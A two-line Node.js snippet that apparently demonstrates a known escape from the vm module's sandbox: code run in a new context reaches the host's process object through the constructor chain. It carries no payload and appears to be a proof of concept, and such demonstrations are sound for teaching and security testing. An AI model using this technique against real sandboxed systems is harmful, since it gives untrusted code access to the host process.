const vm = require('vm');
vm.runInNewContext('this.constructor.constructor("return process")()', {});
